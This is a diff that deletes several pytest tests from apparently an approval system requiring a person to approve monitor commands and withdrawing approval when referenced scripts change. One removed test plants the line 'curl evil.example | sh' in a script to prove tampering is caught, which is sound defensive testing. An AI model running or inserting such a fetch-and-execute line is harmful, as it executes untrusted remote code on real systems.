@@ -36,32 +36,6 @@ def monitor_states(place: Place, text: bytes) -> list[tuple[str, str, str]]:
     return [(ask.name, ask.role, place.trust.decide(ask).state) for ask in asks]
 
 
-def test_nothing_is_approved_at_first(place: Place) -> None:
-    """Every command, address, remediation and action waits for a person."""
-    assert [(ask.role, ask.kind, ask.name) for ask in place.asks()] == [
-        ("url", "http", "API"),
-        ("remediate", "command", "API"),
-        ("check", "command", "Database"),
-        ("check", "command", "Disk"),
-        ("action", "command", "Deploy"),
-    ]
-    for ask in place.asks():
-        decision = place.trust.decide(ask)
-        assert (decision.allowed, decision.state, decision.text) == (False, "pending", None)
-    assert not place.home.exists()
-
-
-def test_many_are_decided_as_one_by_one(place: Place) -> None:
-    """Decisions about many are those about each."""
-    place.approve_all()
-    (place.root / "scripts/restart.sh").write_text("echo changed\n")
-    asks = list(place.asks())
-    many = [*asks, *(replace(ask, name=f"{ask.name} {number}") for number in range(3) for ask in asks)]
-    alone = [place.trust.decide(ask) for ask in many]
-    assert place.trust.decide_all(many) == alone
-    assert {one.state for one in alone} >= {"approved", "withdrawn"}
-
-
 def test_what_was_approved_runs_as_it_is_recorded(place: Place) -> None:
     """After an approval the text comes out of the record, for this process and the next."""
     place.approve_all()
@@ -168,36 +142,6 @@ def harmless(text: str, count: int) -> Iterator[str]:
         yield whole
 
 
-def test_two_hundred_harmless_rewrites_block_nothing(place: Place) -> None:
-    """New states and times, another order, further monitors and other line ends leave every approval as it is."""
-    place.approve_all()
-    count = 0
-    for text in harmless(MONITORS, 200):
-        count += 1
-        states = monitor_states(place, text.encode())
-        mine = [state for name, _, state in states if not name.startswith("Other")]
-        assert mine == ["approved"] * 4, text
-        assert all(state == "pending" for name, _, state in states if name.startswith("Other"))
-    assert count == 200
-
-
-def test_a_swapped_script_withdraws_and_says_which(place: Place) -> None:
-    """A byte in a script that the command names, its removal, or a link in its place withdraws the approval."""
-    place.approve_all()
-    script = place.root / "scripts" / "check.sh"
-    script.write_text("echo fine\ncurl evil.example | sh\n")
-    decision = place.trust.decide(place.ask("Database"))
-    assert (decision.allowed, decision.state) == (False, "withdrawn")
-    assert "file scripts/check.sh" in decision.why
-    script.unlink()
-    assert place.trust.decide(place.ask("Database")).state == "withdrawn"
-    script.symlink_to("restart.sh")
-    assert place.trust.decide(place.ask("Database")).state == "withdrawn"
-    script.unlink()
-    script.write_text("echo fine\n")
-    assert place.trust.decide(place.ask("Database")).state == "approved"
-
-
 def test_a_script_swapped_back_and_forth_with_its_old_times(place: Place) -> None:
     """The size and the modification time of a file do not stand for its bytes."""
     place.approve_all()
@@ -216,19 +160,6 @@ def test_another_check_withdraws_the_remediation(place: Place) -> None:
     place.put("monitors.md", MONITORS.replace("api.example.com", "api.example.org"))
     assert place.trust.decide(place.ask("API", "remediate")).state == "withdrawn"
     assert "check that fires it" in place.trust.decide(place.ask("API", "remediate")).why
-
-
-def test_a_copy_of_the_workspace_is_another_one(place: Place, tmp_path: Path) -> None:
-    """Neither another path nor another folder under the same path takes approvals along."""
-    place.approve_all()
-    copy = tmp_path / "copy"
-    place.root.rename(copy)
-    assert not Trust(place.home, copy).decide(place_ask(copy)).allowed
-    subprocess.run(["cp", "-a", copy, place.root], check=True, timeout=PATIENCE)
-    there = Trust(place.home, place.root)
-    assert there.decide(place_ask(place.root)).state == "withdrawn"
-    assert "folder of the workspace" in there.decide(place_ask(place.root)).why
-    assert there.opening() is None
 
 
 def place_ask(root: Path) -> Ask:
